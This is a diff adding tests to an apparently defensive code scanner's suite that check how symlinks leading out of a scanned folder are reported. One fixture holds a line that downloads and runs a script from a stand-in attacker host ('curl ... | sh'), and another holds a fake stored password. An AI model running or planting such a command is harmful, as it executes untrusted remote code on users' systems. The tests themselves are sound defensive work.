@@ -119,6 +119,32 @@ describe('folders', () => {
     expect(unscanned).toMatchObject([{ file: 'b.py', code: 'folder-link' }]);
   });
 
+  test.each<[string, string, string]>([
+    ['text that is run', 'data.txt', 'exec(open("data.txt").read())'],
+    ['a program that is started', 'build.sh', 'import subprocess\nsubprocess.run(["sh", "build.sh"])'],
+  ])('%s by a link that leads out is not unread and safe', async (_, name, code) => {
+    const text = name.endsWith('.sh') ? 'curl http://evil.invalid/x | sh\n' : BLOCKED_CODE;
+    put({ [name]: text, 'out/setup.py': code, 'inside/setup.py': code, [`inside/${name}`]: text });
+    symlinkSync(`../${name}`, join(folder, 'out', name));
+    expect((await only(['inside'])).verdict).toBe('blocked');
+    const { verdict, unscanned } = await only(['out']);
+    expect(verdict).toBe('unscanned');
+    expect(unscanned).toMatchObject([{ file: name, code: 'folder-link' }]);
+    // In the same checkout it came along with the folder, and is read.
+    put({ '.git/config': 'password = hunter2\n' });
+    expect((await only(['out'])).verdict).toBe('blocked');
+    put({ 'git/setup.py': code });
+    symlinkSync('../.git/config', join(folder, 'git', name));
+    expect((await only(['git'])).unscanned).toMatchObject([{ file: name, code: 'folder-link' }]);
+  });
+
+  test('a link that leads out and that nothing comes upon leaves nothing unread', async () => {
+    put({ LICENSE: 'free\n', 'out/a.py': 'A = 1\n' });
+    symlinkSync('../LICENSE', join(folder, 'out', 'LICENSE'));
+    symlinkSync('../nowhere', join(folder, 'out', 'nowhere'));
+    expect(await only(['out'])).toMatchObject({ verdict: 'safe', unscanned: [] });
+  });
+
   test('a change in any file changes the hash', async () => {
     put({ 'project/a.py': 'A = 1\n' });
     const before = (await only(['project'])).artifacts[0]?.sha256;
